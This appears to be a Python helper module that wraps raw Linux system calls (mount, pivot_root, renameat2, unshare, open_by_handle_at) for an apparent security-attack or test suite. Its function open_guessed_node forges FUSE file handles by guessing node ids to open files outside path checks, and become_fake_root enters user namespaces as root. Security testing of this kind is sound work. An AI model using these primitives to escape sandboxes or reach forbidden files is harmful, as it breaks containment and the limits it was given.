"""System calls that Python has no name for, and those that the attacks need in a raw form.

Standard library only.
"""

import ctypes
import errno
import os
import platform
import struct
from pathlib import Path

AT_FDCWD = -100
RENAME_NOREPLACE = 1
RENAME_EXCHANGE = 2
RENAME_WHITEOUT = 4
MS_BIND = 0x1000
MS_MOVE = 0x2000
MS_REC = 0x4000
MS_PRIVATE = 0x40000
MNT_DETACH = 2
PR_SET_DUMPABLE = 4
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
FUSE_FILE_ID = 0x81
"""File handle type of FUSE: 64 bits of node id, high half first, then 32 of generation."""

_libc = ctypes.CDLL(None, use_errno=True)


def _call(name: str, *arguments: object) -> int:
    ctypes.set_errno(0)
    result: int = getattr(_libc, name)(*arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def renameat2(old: Path, new: Path, flags: int) -> None:
    _call("renameat2", AT_FDCWD, bytes(old), AT_FDCWD, bytes(new), ctypes.c_uint(flags))


def mount(source: str, target: Path, kind: str = "", flags: int = 0, data: str = "") -> None:
    texts = (os.fsencode(source), bytes(target), kind.encode())
    _call("mount", *texts, ctypes.c_ulong(flags), data.encode())


def umount(target: Path, flags: int = 0) -> None:
    _call("umount2", bytes(target), flags)


def pivot_root(new: Path, old: Path) -> None:
    """Make ``new`` the root of this mount namespace, and ``old`` in it what was before."""
    numbers = {"x86_64": 155, "aarch64": 41}
    _call("syscall", numbers[platform.machine()], os.fsencode(new), os.fsencode(old))
    os.chdir("/")


def become_fake_root() -> None:
    """Enter a user and a mount namespace as their root: ``unshare -Urm``."""
    uid, gid = os.getuid(), os.getgid()
    # After setuid() without exec the process is not dumpable, and its /proc is root's.
    _call("prctl", PR_SET_DUMPABLE, 1, 0, 0, 0)
    _call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        Path(f"/proc/self/{name}").write_text(text)


class _FileHandle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def name_to_handle(path: Path) -> tuple[int, bytes]:
    """Return the kind and the bytes of the kernel's file handle for ``path``."""
    handle, mount_id = _FileHandle(size=128), ctypes.c_int()
    _call(
        "name_to_handle_at", AT_FDCWD, bytes(path), ctypes.byref(handle), ctypes.byref(mount_id), 0
    )
    return handle.kind, bytes(handle.data[: handle.size])


def open_by_handle(anchor: int, kind: int, data: bytes, flags: int = os.O_RDONLY) -> int:
    handle = _FileHandle(size=len(data), kind=kind)
    ctypes.memmove(handle.data, data, len(data))
    return _call("open_by_handle_at", anchor, ctypes.byref(handle), flags)


def open_guessed_node(view: Path, node: int, generations: range = range(3)) -> int:
    """Open a FUSE node by a made-up handle; raises what the last attempt raised."""
    anchor = os.open(view, os.O_RDONLY | os.O_DIRECTORY)
    refusal = OSError(errno.ESTALE, "no generation tried")
    for generation in generations:
        data = struct.pack("=III", node >> 32, node & 0xFFFFFFFF, generation)
        try:
            return open_by_handle(anchor, FUSE_FILE_ID, data)
        except OSError as error:
            refusal = error
    raise refusal


def read_at(directory: int, name: str, flags: int = os.O_RDONLY) -> bytes:
    """Open ``name`` below a directory descriptor and read it."""
    descriptor = os.open(name, flags, dir_fd=directory)
    try:
        return os.read(descriptor, 1 << 16)
    finally:
        os.close(descriptor)
